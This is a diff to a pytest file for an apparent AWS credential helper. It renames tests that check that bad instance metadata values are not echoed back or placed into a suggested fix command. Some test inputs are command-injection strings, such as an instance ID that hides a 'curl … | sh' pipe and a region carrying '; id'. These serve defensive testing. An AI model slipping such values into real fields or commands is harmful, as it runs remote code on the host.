@@ -14,7 +14,7 @@ import pytest
 
 from credhelper.aws.imds import diagnose, diagnose_missing_keys, instance_region, instance_role
 from tests.conftest import UNREACHABLE
-from tests.contract.http_server import answering_by_path, serve_answer
+from tests.contract.http_server import serve_answer, serve_by_path
 
 if TYPE_CHECKING:
     from credhelper.errors import HelperError
@@ -201,7 +201,7 @@ def imds(
     role: object, info: object = b"", instance: bytes = b"", role_status: int = 200
 ) -> AbstractContextManager[str]:
     """Give the URL of a service that answers as metadata does, but for some of its answers."""
-    return answering_by_path(
+    return serve_by_path(
         {
             "/latest/api/token": (200, b"token"),
             "/latest/meta-data/iam/security-credentials/": (role_status, role),
@@ -215,11 +215,11 @@ def imds(
 @pytest.mark.parametrize("role", NOT_A_ROLE)
 def test_what_is_not_the_name_of_a_role_is_not_repeated(role: object) -> None:
     with imds(role) as url:
-        seen = instance_role(url)
-        found = diagnose(url)
-    assert found.id == "metadata-failed"
-    assert "not the name of a role" in found.message
-    assert "hidden" not in repr((seen, found))
+        role_info = instance_role(url)
+        error = diagnose(url)
+    assert error.id == "metadata-failed"
+    assert "not the name of a role" in error.message
+    assert "hidden" not in repr((role_info, error))
 
 
 @pytest.mark.parametrize("role", ["app-role", "a", "x" * 64, "a+b=c,d.e@f-g_h", "app-role\n"])
@@ -240,26 +240,26 @@ def test_the_name_of_a_role_is_taken(role: str) -> None:
         {"InstanceProfileArn": DOCUMENT, "InstanceProfileId": DOCUMENT},
     ],
 )
-def test_an_instance_profile_that_is_none_is_not_kept(info: object) -> None:
+def test_an_invalid_instance_profile_is_not_kept(info: object) -> None:
     with imds(b"app-role", info) as url:
         assert instance_role(url).identity == ""
 
 
 @pytest.mark.parametrize("id_", [b"hidden", b"i-0; curl http://x | sh #", b"i-0\n1", b"i-" + b"0" * 1000, b"I-0"])
-def test_an_instance_s_id_that_is_none_is_not_in_the_command(id_: bytes) -> None:
+def test_an_invalid_instance_id_is_not_in_the_command(id_: bytes) -> None:
     with imds(b"", instance=id_, role_status=404) as url:
         assert "--instance-id ID --iam" in diagnose_endpoint(url).fix
 
 
 @pytest.mark.parametrize("name", [b"hidden secret", b"us-east-1; id", b"US", b"x" * 100, json.dumps(DOCUMENT).encode()])
-def test_a_region_that_is_none_is_not_repeated(name: bytes) -> None:
+def test_an_invalid_region_is_not_repeated(name: bytes) -> None:
     with imds(b"", instance=name) as url:
         assert instance_region(url) == ""
 
 
 @pytest.mark.parametrize("code", ["hidden code", "hidden" * 50, {"hidden": 1}, "hidden\x1b[2J", "hidden\n", 1])
-def test_a_code_that_is_none_is_not_repeated(code: object) -> None:
+def test_an_invalid_code_is_not_repeated(code: object) -> None:
     with serve_answer({"Code": code}) as url:
-        found = diagnose_missing_keys(url, "app-role")
-    assert "hidden" not in repr(found)
-    assert "an unknown code" in found.message
+        error = diagnose_missing_keys(url, "app-role")
+    assert "hidden" not in repr(error)
+    assert "an unknown code" in error.message
